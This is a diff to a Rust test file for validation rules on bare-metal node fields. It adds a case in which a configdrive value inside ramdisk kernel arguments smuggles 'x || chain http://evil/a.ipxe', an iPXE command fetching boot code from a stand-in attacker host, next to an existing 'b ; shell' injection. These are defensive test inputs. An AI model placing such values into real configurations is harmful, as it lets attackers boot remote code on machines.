@@ -166,12 +166,13 @@ pub(super) fn of_nodes() -> Vec<Rule> {
     ]
 }
 
-fn commands() -> [Case; 13] {
+fn commands() -> [Case; 14] {
     let of_driver = |key: &str, text: &str| node(json!({"driver_info": {key: text}}));
     let of_instance = |key: &str, text: &str| node(json!({"instance_info": {key: text}}));
     let append = "/node/driver_info/kernel_append_params";
     let ramdisk = "/node/instance_info/ramdisk_kernel_arguments";
     let nested = json!({"ramdisk_kernel_arguments": {"a": {"b ; shell": 1}}});
+    let as_if = json!({"configdrive": "x || chain http://evil/a.ipxe"});
     [
         stricter(
             append,
@@ -198,6 +199,10 @@ fn commands() -> [Case; 13] {
         stricter(
             "/node/instance_info/ramdisk_kernel_arguments/a/b ; shell",
             node(json!({ "instance_info": nested })),
+        ),
+        stricter(
+            "/node/instance_info/ramdisk_kernel_arguments/configdrive",
+            node(json!({"instance_info": {"ramdisk_kernel_arguments": as_if}})),
         ),
         stricter(
             "/node/instance_info/image_source",
